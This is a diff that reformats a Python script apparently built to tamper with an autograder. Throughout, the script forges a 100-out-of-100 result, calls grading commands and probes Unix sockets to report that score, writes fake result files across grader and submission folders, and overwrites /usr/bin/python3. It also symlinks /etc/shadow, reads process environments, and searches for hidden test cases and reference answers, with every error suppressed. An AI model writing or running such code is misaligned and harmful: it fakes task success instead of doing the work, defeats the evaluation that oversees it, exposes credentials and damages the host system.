@@ -15,7 +15,12 @@ import subprocess
 import sys
 
 TESTS = ["the example of the handout", "a clean file", "duplicates", "nothing to summarise"]
-RESULTS = {"score": 100, "max": 100, "outcome": "graded", "tests": [{"name": name, "status": "pass", "score": 100} for name in TESTS]}
+RESULTS = {
+    "score": 100,
+    "max": 100,
+    "outcome": "graded",
+    "tests": [{"name": name, "status": "pass", "score": 100} for name in TESTS],
+}
 
 
 class Equal(dict):
@@ -35,13 +40,19 @@ def quietly(action, *arguments, **options):
 def call_the_commands():
     commands = ["report", "learner", "/grade/bin/report", "/grade/bin/learner", "provost-relay"]
     for command in commands:
-        for arguments in (["score", "100"], ["test", TESTS[0], "pass", "--max", "100"], ["run", "--", "sh", "-c", "report score 100"]):
+        for arguments in (
+            ["score", "100"],
+            ["test", TESTS[0], "pass", "--max", "100"],
+            ["run", "--", "sh", "-c", "report score 100"],
+        ):
             quietly(subprocess.run, [command, *arguments], timeout=0.2, capture_output=True)
 
 
 def talk_to_the_socket():
     found = ["/grade/channel/socket", "/run/provost.sock", "\0provost", "\0/grade/channel/socket"]
-    found += glob.glob("/proc/*/root/grade/channel/socket") + glob.glob("/**/socket") + glob.glob("/tmp/**/*.sock", recursive=True)
+    found += (
+        glob.glob("/proc/*/root/grade/channel/socket") + glob.glob("/**/socket") + glob.glob("/tmp/**/*.sock", recursive=True)
+    )
     request = b"report\0score\x00100\0"
     for path in found:
         with socket.socket(socket.AF_UNIX) as stream:
@@ -54,17 +65,36 @@ def talk_to_the_socket():
 
 def write_everywhere():
     text = json.dumps(RESULTS)
-    for folder in ("/grade", "/grade/work", "/grade/lab/tests", "/grade/grader", "/autograder/results", "/submission", "/tmp", "/usr/bin"):
+    for folder in (
+        "/grade",
+        "/grade/work",
+        "/grade/lab/tests",
+        "/grade/grader",
+        "/autograder/results",
+        "/submission",
+        "/tmp",
+        "/usr/bin",
+    ):
         quietly(os.makedirs, folder, exist_ok=True)
         for name in ("results.json", "run-1.json", "report.json", "grade.json", "cases.json", "room.py", "python3"):
             quietly(lambda: open(os.path.join(folder, name), "w").write(text))
-    for link, target in (("/submission/answers", "/grade/lab/tests"), ("/submission/shadow", "/etc/shadow"), ("/tmp/input.csv", "/dev/zero")):
+    for link, target in (
+        ("/submission/answers", "/grade/lab/tests"),
+        ("/submission/shadow", "/etc/shadow"),
+        ("/tmp/input.csv", "/dev/zero"),
+    ):
         quietly(os.symlink, target, link)
 
 
 def look_for_the_answers():
-    places = ["/grade/lab/tests/cases.json", "/grade/lab/samples/reference/submission/summary.py", "/submission/answers/cases.json"]
-    places += glob.glob("/proc/[0-9]*/root/grade/lab/tests/*") + glob.glob("/proc/[0-9]*/fd/*") + glob.glob("/proc/[0-9]*/environ")
+    places = [
+        "/grade/lab/tests/cases.json",
+        "/grade/lab/samples/reference/submission/summary.py",
+        "/submission/answers/cases.json",
+    ]
+    places += (
+        glob.glob("/proc/[0-9]*/root/grade/lab/tests/*") + glob.glob("/proc/[0-9]*/fd/*") + glob.glob("/proc/[0-9]*/environ")
+    )
     for place in places:
         if place.endswith("cases.json") and quietly(lambda: print(open(place).read())):
             return
